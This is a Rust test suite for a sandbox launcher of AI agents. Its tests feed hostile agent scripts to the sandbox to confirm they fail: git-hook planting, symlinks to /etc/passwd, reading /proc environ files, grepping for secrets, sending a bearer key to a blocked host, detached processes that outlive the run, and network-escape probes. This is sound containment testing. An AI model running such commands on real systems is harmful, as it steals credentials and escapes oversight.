//! Agents in a sandbox of this machine, from the command line to their end: as root, and as an ordinary user.

use std::io::{Read as _, Write as _};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use crate::support::{Machine, PATIENCE, Ran};

/// Whether bubblewrap can make a sandbox here; where not, the test says so.
fn sandboxes_work() -> bool {
    let works = Command::new("bwrap").args(["--unshare-all", "--ro-bind", "/", "/", "true"]).output();
    let works = works.is_ok_and(|output| output.status.success());
    if !works {
        println!("SKIPPED: no bwrap that may make a sandbox here");
    }
    works
}

/// Each kind of user that this test can be: root, and somebody else.
pub(crate) fn users() -> Vec<fn() -> Option<Machine>> {
    if !sandboxes_work() {
        return Vec::new();
    }
    vec![|| Some(Machine::new()), || Machine::new().into_ordinary_user()]
}

/// Writes an agent whose harness is a shell script.
fn agent(machine: &Machine, name: &str, more: &str, script: &str) -> String {
    let manifest = format!(
        "id: {name}\nharness:\n  supported:\n    command: {{argv: [sh, /etc/openshell/agent-payload/resources/run.sh]}}\n\
         resources:\n  - {{id: run, source: run.sh, destination: resources/run.sh}}\nprompt_template: prompt.md\n{more}"
    );
    let files = [("agent.yaml", manifest.as_str()), ("run.sh", script), ("prompt.md", "Do it. {{USER_PROMPT}}\n")];
    let folder = machine.folder(name, &files);
    open_to_all(&folder);
    folder.to_str().unwrap().to_owned()
}

/// Made by root for somebody else.
pub(crate) fn open_to_all(folder: &Path) {
    use std::os::unix::fs::PermissionsExt as _;
    let mode = if folder.is_dir() { 0o755 } else { 0o644 };
    std::fs::set_permissions(folder, std::fs::Permissions::from_mode(mode)).unwrap();
    for entry in folder.read_dir().into_iter().flatten() {
        open_to_all(&entry.unwrap().path());
    }
}

fn launch(machine: &Machine, agent: &str, more: &[&str]) -> Ran {
    machine.run(&[&["launch", "--agent", agent, "--trust"], more, &["go"]].concat())
}

fn only_run(machine: &Machine) -> serde_json::Value {
    let listed = machine.run(&["runs", "--json"]).ok().out;
    serde_json::from_str(&listed).unwrap_or_else(|_| panic!("not one run: {listed}"))
}

fn name_of(run: &serde_json::Value) -> String {
    run["name"].as_str().unwrap().to_owned()
}

fn until(what: &str, mut so: impl FnMut() -> bool) {
    let started = Instant::now();
    while !so() {
        assert!(started.elapsed() < PATIENCE, "{what} did not happen");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// How many processes of this machine have `mark` among their arguments.
fn alive(mark: &str) -> usize {
    let processes = std::fs::read_dir("/proc").unwrap().flatten();
    let lines = processes.filter_map(|entry| std::fs::read(entry.path().join("cmdline")).ok());
    lines.filter(|line| line.split(|byte| *byte == 0).any(|word| word == mark.as_bytes())).count()
}

/// An argument that nobody else has: a number of seconds that `sleep` takes.
fn mark() -> String {
    use std::sync::atomic::{AtomicU32, Ordering};
    static NEXT: AtomicU32 = AtomicU32::new(0);
    format!("{}.{}", 100_000 + NEXT.fetch_add(1, Ordering::Relaxed), std::process::id())
}

#[test]
fn hello_runs_to_its_end_and_nothing_of_it_is_left() {
    for user in users() {
        let Some(machine) = user() else { continue };
        let hello = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../agents/hello");
        let read = |name: &str| std::fs::read_to_string(hello.join(name)).unwrap();
        let files =
            [("agent.yaml", read("agent.yaml")), ("hello.sh", read("hello.sh")), ("prompt.md", read("prompt.md"))];
        let files: Vec<(&str, &str)> = files.iter().map(|(name, text)| (*name, text.as_str())).collect();
        let folder = machine.folder("hello", &files);
        open_to_all(&folder);
        let ran = launch(&machine, folder.to_str().unwrap(), &[]).ok();
        assert!(ran.out.contains("Hello from a once run on command.\n\ngo\n"), "{}", ran.out);
        assert!(ran.err.contains("openshell-agent: complete (greeted)"), "{}", ran.err);
        let run = only_run(&machine);
        assert_eq!((run["driver"].as_str(), run["exit"].as_u64()), (Some("local"), Some(0)));
        let name = name_of(&run);
        assert!(machine.run(&["runs", "show", &name]).ok().out.contains("The prompt was read"));
        assert!(machine.run(&["runs", "logs", &name]).ok().out.contains("Hello from a once run"));
        assert!(!machine.state().join("runs").join(&name).join("sandbox").exists(), "not kept, and yet there");
        machine.run(&["runs", "rm", &name]).ok();
        assert_eq!(machine.run(&["runs", "--json"]).ok().out, "");
        assert_eq!(std::fs::read_dir(machine.state().join("runs")).unwrap().count(), 0);
    }
}

#[test]
fn a_kept_sandbox_stays_until_it_is_removed() {
    for user in users() {
        let Some(machine) = user() else { continue };
        let agent = agent(&machine, "keeper", "", "echo kept > /sandbox/file; exit 7");
        launch(&machine, &agent, &["--keep"]).fails(7);
        let run = only_run(&machine);
        assert_eq!(run["exit"], 7);
        let name = name_of(&run);
        let sandbox = machine.state().join("runs").join(&name).join("sandbox");
        assert_eq!(std::fs::read_to_string(sandbox.join("file")).unwrap(), "kept\n");
        machine.run(&["runs", "stop", &name]).ok();
        assert!(!sandbox.exists());
        assert_eq!(only_run(&machine)["exit"], 7, "its record stays");
    }
}

#[test]
fn a_detached_run_survives_its_terminal_and_tells_how_it_ended() {
    if Command::new("script").arg("--version").output().is_err() {
        println!("SKIPPED: no `script` to make a terminal with");
        return;
    }
    for user in users() {
        let Some(machine) = user() else { continue };
        let go = machine.path("go");
        std::fs::create_dir(&go).unwrap();
        std::os::unix::fs::chown(&go, machine.uid(), machine.uid()).unwrap();
        // the run goes on only when the terminal is gone
        let agent =
            agent(&machine, "patient", "", "while [ ! -e /mnt/go/now ]; do sleep 0.05; done; echo survived; exit 5");
        let bind = format!("{}:/mnt/go", go.display());
        let args = ["launch", "--agent", &agent, "--trust", "--detach", "--bind", &bind, "go"];
        let mut command = machine.command(&args);
        let line: Vec<String> = std::iter::once(command.get_program())
            .chain(command.get_args())
            .map(|word| format!("'{}'", word.to_str().unwrap()))
            .collect();
        let mut terminal = Command::new("script");
        terminal.args(["-q", "-e", "-c", &line.join(" "), "/dev/null"]).env_clear().stdin(Stdio::null());
        for (name, value) in command.env("TERM", "dumb").get_envs() {
            terminal.env(name, value.unwrap());
        }
        let ran: Ran = terminal.current_dir(machine.home.path()).output().unwrap().into();
        let ran = ran.ok();
        assert!(ran.out.contains("bastion runs show patient"), "{}", ran.out);
        let name = name_of(&only_run(&machine));
        assert_eq!(only_run(&machine)["last"]["record"]["state"], "running");
        std::fs::write(go.join("now"), "").unwrap();
        until("the end of the run", || only_run(&machine)["exit"] == 5);
        assert!(machine.run(&["runs", "logs", &name]).ok().out.contains("survived"));
        assert!(!machine.state().join("runs").join(&name).join("sandbox").exists());
        machine.run(&["runs", "rm", &name]).ok();
    }
}

#[test]
fn a_running_one_is_stopped_and_its_last_word_kept() {
    for user in users() {
        let Some(machine) = user() else { continue };
        let mark = mark();
        let agent = agent(&machine, "endless", "", &format!("echo begun; setsid nohup sleep {mark} & sleep {mark}"));
        launch(&machine, &agent, &["--detach"]).ok();
        let name = name_of(&only_run(&machine));
        until("the sleep", || alive(&mark) == 2);
        assert_eq!(machine.run(&["runs", "stop", &name]).ok().out.trim(), format!("{name} is stopped"));
        assert_eq!(alive(&mark), 0);
        let run = only_run(&machine);
        assert_eq!(run["last"]["gone"], true);
        assert!(machine.run(&["runs", "logs", &name]).ok().out.contains("begun"));
        assert!(machine.run(&["runs", "stop", &name]).ok().out.contains("was gone already"));
        machine.run(&["runs", "rm", &name]).ok();
    }
}

/// A launcher in the foreground, killed at the latest when the test is over.
struct Attached(Child);

impl Drop for Attached {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn nothing_outlives_a_launcher_that_is_killed() {
    for user in users() {
        let Some(machine) = user() else { continue };
        let mark = mark();
        let agent = agent(&machine, "orphan", "", &format!("setsid nohup sleep {mark} & sleep {mark}"));
        let args = ["launch", "--agent", &agent, "--trust", "--attach", "go"];
        // `setpriv` becomes the program, so that this child is the launcher
        let child = machine.command(&args).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
        let mut launcher = Attached(child);
        until("the sleep", || alive(&mark) == 2);
        launcher.0.kill().unwrap();
        launcher.0.wait().unwrap();
        let killed = Instant::now();
        until("the end of the sandbox", || alive(&mark) == 0);
        assert!(killed.elapsed() < Duration::from_secs(1), "{:?}", killed.elapsed());
        // whoever looks next clears up
        let run = only_run(&machine);
        assert_eq!(run["exit"], 137, "{run}");
        let shown = machine.run(&["runs"]).ok().out;
        assert!(shown.contains("ended with status 137") && shown.contains("launcher was killed"), "{shown}");
        let name = name_of(&run);
        assert!(!machine.state().join("runs").join(&name).join("sandbox").exists());
        machine.run(&["runs", "rm", &name]).ok();
    }
}

#[test]
fn an_attached_run_ends_with_the_users_interrupt() {
    for user in users() {
        let Some(machine) = user() else { continue };
        let mark = mark();
        let agent = agent(&machine, "interrupted", "", &format!("echo begun; sleep {mark}"));
        let args = ["launch", "--agent", &agent, "--trust", "--attach", "go"];
        let child = machine.command(&args).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        let mut launcher = Attached(child);
        until("the sleep", || alive(&mark) == 1);
        let pid = rustix::process::Pid::from_child(&launcher.0);
        rustix::process::kill_process(pid, rustix::process::Signal::INT).unwrap();
        assert_eq!(launcher.0.wait().unwrap().code(), Some(130));
        let mut err = String::new();
        launcher.0.stderr.take().unwrap().read_to_string(&mut err).unwrap();
        assert!(err.contains("ended by SIGINT"), "{err}");
        assert_eq!(alive(&mark), 0);
        let run = only_run(&machine);
        assert_eq!((&run["exit"], &run["why"]), (&130.into(), &"the run was ended by SIGINT".into()));
    }
}

#[test]
fn a_sandbox_that_was_made_hard_to_remove_is_removed() {
    for user in users() {
        let Some(machine) = user() else { continue };
        let script = "cd /sandbox; mkdir -p locked/inner; touch locked/inner/f; chmod 0 locked/inner; chmod 500 locked
            perl -e 'for (1..400) { mkdir \"d\" x 24 or die; chdir \"d\" x 24 or die } print \"deep 400\\n\"'; exit 3";
        let agent = agent(&machine, "nest", "", script);
        let ran = launch(&machine, &agent, &[]);
        // where the watch looks in just then, it ends the run: what is locked or too deep can't be measured
        assert!(ran.code == 3 && ran.out.contains("deep 400") || ran.err.contains("can't be measured"), "{}", ran.err);
        let run = only_run(&machine);
        assert_eq!(run["exit"], ran.code);
        assert!(!machine.state().join("runs").join(name_of(&run)).join("sandbox").exists());
    }
}

#[test]
fn an_agent_that_hides_what_it_writes_is_ended() {
    for user in users() {
        let Some(machine) = user() else { continue };
        if machine.uid().is_none() && rustix::process::getuid().is_root() {
            continue; // root can look into every folder
        }
        let mark = mark();
        let agent = agent(&machine, "hider", "", &format!("mkdir /sandbox/d; chmod 300 /sandbox/d; sleep {mark}"));
        let ran = launch(&machine, &agent, &["--attach"]).fails(1);
        assert!(ran.err.contains("can't be measured"), "{}", ran.err);
        assert_eq!(alive(&mark), 0);
    }
}

#[test]
fn in_a_bound_repository_nothing_can_be_planted_that_runs_outside() {
    for user in users() {
        let Some(machine) = user() else { continue };
        let repo = machine.folder("repo", &[("file", "x\n"), ("sub/inner/x", "y\n")]);
        let git = |dir: &Path, args: &[&str]| {
            let ran: Ran = Command::new("git").arg("-C").arg(dir).args(args).output().unwrap().into();
            ran.ok();
        };
        git(&repo, &["init", "-q"]);
        git(&repo.join("sub/inner"), &["init", "-q"]);
        machine.give(&repo);
        let script = "cd /work
            for try in 'touch .git/hooks/post-checkout' 'rm .git/config' 'mv .git .old' 'echo x > .git/commondir' \
                       'mkdir -p .git/worktrees/x' 'touch .git/index' 'mv sub sub2' 'mv sub/inner sub/i2' \
                       'echo x >> sub/inner/.git/config' 'rm -rf sub/inner/.git' 'ln -s /x sub/inner/.git/hooks/y'; do
              if sh -c \"$try\" 2>/dev/null; then echo \"DONE: $try\"; fi
            done
            echo changed > file && echo new > sub/new && echo writable";
        let agent = agent(&machine, "planter", "", script);
        let bind = format!("{}:/work:rw", repo.display());
        let ran = launch(&machine, &agent, &["--bind", &bind]).ok();
        assert!(ran.out.contains("writable") && !ran.out.contains("DONE"), "{}", ran.out);
        assert_eq!(std::fs::read_to_string(repo.join("file")).unwrap(), "changed\n", "the control: it can be written");
        let git_dir = format!("{}/.git:/work:rw", repo.display());
        let refused = launch(&machine, &agent, &["--bind", &git_dir]).fails(3);
        assert!(refused.err.contains("Git repository"), "{}", refused.err);
    }
}

#[test]
fn a_repository_that_a_run_leaves_is_told() {
    for user in users() {
        let Some(machine) = user() else { continue };
        let folder = machine.folder("work", &[("file", "x\n")]);
        machine.give(&folder);
        let agent = agent(&machine, "maker", "", "mkdir -p /work/a/.git; echo ok");
        let bind = format!("{}:/work:rw", folder.display());
        let ran = launch(&machine, &agent, &["--bind", &bind]).ok();
        assert!(ran.err.contains("left a repository at") && ran.err.contains("a/.git"), "{}", ran.err);
        // where nobody listened it can be read later
        let logs = machine.run(&["runs", "logs", &name_of(&only_run(&machine))]).ok().out;
        assert!(logs.contains("bastion: the run left a repository at"), "{logs}");
    }
}

#[test]
fn what_the_sandbox_writes_down_can_not_hurt_who_reads_it() {
    for user in users() {
        let Some(machine) = user() else { continue };
        let script = "cd /sandbox/.openshell-agent; rm -f status.json history.jsonl output.log
            ln -s /etc/passwd status.json; mkfifo history.jsonl; ln -s /etc/passwd output.log
            printf 'words \\033]0;title\\007 end\\n'; sleep 100000.77";
        let agent = agent(&machine, "hostile", "", script);
        launch(&machine, &agent, &["--detach"]).ok();
        let name = name_of(&only_run(&machine));
        until("the words", || machine.run(&["runs", "logs", &name]).ok().out.contains("end"));
        let logs = machine.run(&["runs", "logs", &name]).ok().out;
        assert!(!logs.contains('\u{1b}') && !logs.contains("root:x:0"), "{logs}");
        let shown = machine.run(&["runs", "show", &name]).ok().out;
        assert!(!shown.contains("root:") && !machine.run(&["runs"]).ok().out.contains("root:"), "{shown}");
        machine.run(&["runs", "rm", &name]).ok();
    }
}

/// A real TLS server that shows what it was sent: `openssl s_server`.
struct Server {
    child: Child,
    port: u16,
    seen: std::sync::Arc<std::sync::Mutex<String>>,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Server {
    fn start(machine: &Machine) -> Self {
        let ca = machine.folder("tls", &[]);
        let made = Command::new("openssl")
            .args(["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "2"])
            .args(["-subj", "/CN=localhost", "-addext", "subjectAltName=DNS:localhost"])
            .args(["-addext", "basicConstraints=critical,CA:FALSE"])
            .arg("-keyout")
            .arg(ca.join("key.pem"))
            .arg("-out")
            .arg(ca.join("cert.pem"))
            .output()
            .unwrap();
        assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
        open_to_all(&ca);
        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let mut child = Command::new("openssl")
            .args(["s_server", "-quiet", "-accept", &format!("127.0.0.1:{port}")])
            .arg("-key")
            .arg(ca.join("key.pem"))
            .arg("-cert")
            .arg(ca.join("cert.pem"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let seen = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
        let (mut stdout, mut stdin) = (child.stdout.take().unwrap(), child.stdin.take().unwrap());
        let heard = seen.clone();
        std::thread::spawn(move || {
            let mut buffer = [0; 4096];
            while let Ok(n) = stdout.read(&mut buffer) {
                if n == 0 {
                    break;
                }
                let mut seen = heard.lock().unwrap();
                seen.push_str(&String::from_utf8_lossy(&buffer[..n]));
                if seen.ends_with("\r\n\r\n") {
                    let _ = stdin.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 7\r\n\r\nanswer\n");
                }
            }
        });
        until("the server", || std::net::TcpStream::connect(("127.0.0.1", port)).is_ok());
        Self { child, port, seen }
    }
}

#[test]
fn a_credential_is_put_in_outside_and_is_nowhere_inside() {
    if Command::new("curl").arg("--version").output().is_err() {
        println!("SKIPPED: no curl to ask with");
        return;
    }
    for user in users() {
        let Some(machine) = user() else { continue };
        let server = Server::start(&machine);
        let secret = format!("planted-{}-secret", mark());
        let profile = format!(
            "id: model\ncredentials:\n  - {{name: KEY, env_vars: [MODEL_KEY], required: true, auth_style: bearer, header_name: authorization}}\n\
             endpoints:\n  - {{host: localhost, port: {}, protocol: rest, access: read-write, enforcement: enforce}}\n",
            server.port
        );
        let more = format!(
            "profile_paths: [providers]\nproviders:\n  - id: model\n    name: model\n    profile: model\n    credential_mode: explicit\n    \
             credentials:\n      - {{env: MODEL_KEY, export: true, source: {{kind: file_json, path: {}, query: key}}}}\n",
            machine.path("secret/key.json").display()
        );
        let script = format!(
            "echo placeholder $MODEL_KEY
             curl -sS -m 20 -H \"Authorization: Bearer $MODEL_KEY\" https://localhost:{port}/v1/x
             echo plain $(curl -s -o /dev/null -w %{{http_code}} -m 20 https://localhost:{port}/v1/../x --path-as-is)
             curl -s -m 20 -H \"Authorization: Bearer $MODEL_KEY\" https://denied.invalid/ || echo denied
             env; cat /proc/self/environ /proc/1/environ /proc/1/cmdline 2>/dev/null | tr '\\0' '\\n'
             grep -rs 'planted-[0-9]' /sandbox /etc /tmp /run && echo FOUND; exit 0",
            port = server.port
        );
        let folder = agent(&machine, "asker", &more, &script);
        machine.folder("asker/providers", &[("model.yaml", &profile)]);
        machine.folder("secret", &[("key.json", &format!("{{\"key\": \"{secret}\"}}"))]);
        open_to_all(Path::new(&folder));
        machine.give(&machine.path("secret"));
        let args = ["launch", "--agent", &folder, "--trust", "--keep", "go"];
        let ran: Ran =
            machine.command(&args).env("BASTION_EGRESS_CA", machine.path("tls/cert.pem")).output().unwrap().into();
        let ran = ran.ok();
        assert!(ran.out.contains("placeholder openshell:resolve:env:MODEL_KEY"), "{}", ran.out);
        assert!(
            ran.out.contains("answer") && ran.out.contains("plain 400") && ran.out.contains("denied"),
            "{}",
            ran.out
        );
        let seen = server.seen.lock().unwrap().clone();
        assert!(seen.to_ascii_lowercase().contains(&format!("authorization: bearer {secret}")), "{seen}");
        assert!(!seen.contains("openshell:resolve"), "{seen}");
        assert!(!ran.out.contains(&secret) && !ran.err.contains(&secret) && !ran.out.contains("FOUND"), "{}", ran.out);
        let name = name_of(&only_run(&machine));
        let found = Command::new("grep").args(["-rlsa", &secret]).arg(machine.state()).output().unwrap();
        assert_eq!(String::from_utf8_lossy(&found.stdout), "", "the secret is in the run's files");
        let control = Command::new("grep").args(["-rlsa", &secret]).arg(machine.path("secret")).output().unwrap();
        assert!(!control.stdout.is_empty(), "the control: it can be found");
        let egress = machine.run(&["runs", "egress", &name]).ok().out;
        assert!(egress.contains("allow") && egress.contains("denied.invalid:443"), "{egress}");
        let denied = machine.run(&["runs", "egress", &name, "--denied", "--json"]).ok().out;
        assert!(denied.lines().count() >= 2 && !denied.contains("\"allow\""), "{denied}");
        machine.run(&["runs", "rm", &name]).ok();
    }
}

#[test]
fn without_what_makes_a_sandbox_nothing_runs() {
    let private = |script: &str| Command::new("unshare").args(["-m", "sh", "-c", script]).output();
    if !private("mount --bind /dev/null /usr/bin/bwrap").is_ok_and(|output| output.status.success()) {
        println!("SKIPPED: bwrap can't be hidden from a process here");
        return;
    }
    let machine = Machine::new();
    let agent = agent(&machine, "never", "", "echo RAN");
    let plain = machine.command(&["launch", "--agent", &agent, "--trust", "go"]);
    let words: Vec<String> = std::iter::once(plain.get_program())
        .chain(plain.get_args())
        .map(|word| format!("'{}'", word.to_str().unwrap()))
        .collect();
    for hide in ["mount --bind /dev/null /usr/bin/bwrap", "mount --bind /bin/true /usr/bin/bwrap"] {
        let mut command = Command::new("unshare");
        command.args(["-m", "sh", "-c", &format!("{hide} && exec {}", words.join(" "))]).env_clear();
        command.envs(plain.get_envs().filter_map(|(name, value)| Some((name, value?))));
        let ran: Ran = command.current_dir(machine.home.path()).output().unwrap().into();
        assert!(ran.code == 3 && !ran.out.contains("RAN"), "{} {}", ran.code, ran.err);
        assert!(ran.err.contains("bwrap") || ran.err.contains("bubblewrap"), "{}", ran.err);
        assert_eq!(machine.run(&["runs", "--json"]).ok().out, "", "nothing ran, and nothing is remembered");
        assert_eq!(std::fs::read_dir(machine.state().join("runs")).unwrap().count(), 0);
    }
    launch(&machine, &agent, &[]).ok();
}

#[test]
fn a_living_run_is_neither_forgotten_nor_replaced() {
    if !sandboxes_work() {
        return;
    }
    let machine = Machine::new();
    let mark = mark();
    let agent = agent(&machine, "living", "", &format!("sleep {mark}"));
    launch(&machine, &agent, &["--detach", "--name", "living"]).ok();
    until("the sleep", || alive(&mark) == 1);
    let record = machine.state().join("runs/living.json");
    let kept = std::fs::read(&record).unwrap();
    // a record that can't be read, or that is gone, is no reason to pull the folder from under a run
    std::fs::write(&record, "{").unwrap();
    assert!(machine.run(&["runs", "rm", "living"]).fails(3).err.contains("launcher that is alive"));
    std::fs::remove_file(&record).unwrap();
    assert!(launch(&machine, &agent, &["--name", "living"]).fails(3).err.contains("launcher is alive"));
    assert_eq!(alive(&mark), 1);
    std::fs::write(&record, kept).unwrap();
    machine.run(&["runs", "rm", "living"]).ok();
    assert_eq!(alive(&mark), 0);
}

#[test]
fn from_inside_no_name_is_looked_up_and_nothing_is_reached_or_offered() {
    for user in users() {
        let Some(machine) = user() else { continue };
        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let host = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let outside = host.local_addr().unwrap().port();
        assert!(
            std::net::TcpStream::connect(("127.0.0.1", outside)).is_ok(),
            "the control: the host's own can be reached"
        );
        let script = format!(
            "perl=\"perl -MIO::Socket::INET -e\"
             getent hosts localhost > /dev/null && echo CONTROL lookup
             getent hosts unlisted.invalid && echo DONE lookup
             for to in 192.0.2.1:22 198.51.100.1:443 127.0.0.1:{outside}; do
               $perl 'IO::Socket::INET->new(PeerAddr => shift, Timeout => 3) and print \"DONE reached\\n\"' $to
             done
             echo ssh $(curl -s -m 10 -p -o /dev/null -w %{{http_connect}} http://192.0.2.1:22/)
             echo host $(curl -s -m 10 -p -o /dev/null -w %{{http_connect}} http://127.0.0.1:{outside}/ --noproxy '')
             echo plain $(curl -s -m 10 -o /dev/null -w %{{http_code}} http://unlisted.invalid/)
             $perl '$s = IO::Socket::INET->new(LocalAddr => shift, Listen => 5) or die; if (!fork) {{ \
               IO::Socket::INET->new(PeerAddr => $ARGV[0] // \"127.0.0.1:{port}\") and print \"CONTROL relay\\n\"; exit }} \
               wait; sleep 60' 127.0.0.1:{port}"
        );
        let agent = agent(&machine, "caller", "", &script);
        launch(&machine, &agent, &["--detach"]).ok();
        let name = name_of(&only_run(&machine));
        let logs = || machine.run(&["runs", "logs", &name]).ok().out;
        until("the relay", || logs().contains("CONTROL relay"));
        assert!(std::net::TcpStream::connect(("127.0.0.1", port)).is_err(), "what listens inside is heard outside");
        let logs = logs();
        assert!(logs.contains("CONTROL lookup") && !logs.contains("DONE"), "{logs}");
        for said in ["ssh 403", "host 403", "plain 403"] {
            assert!(logs.contains(said), "{said}: {logs}");
        }
        machine.run(&["runs", "rm", &name]).ok();
    }
}
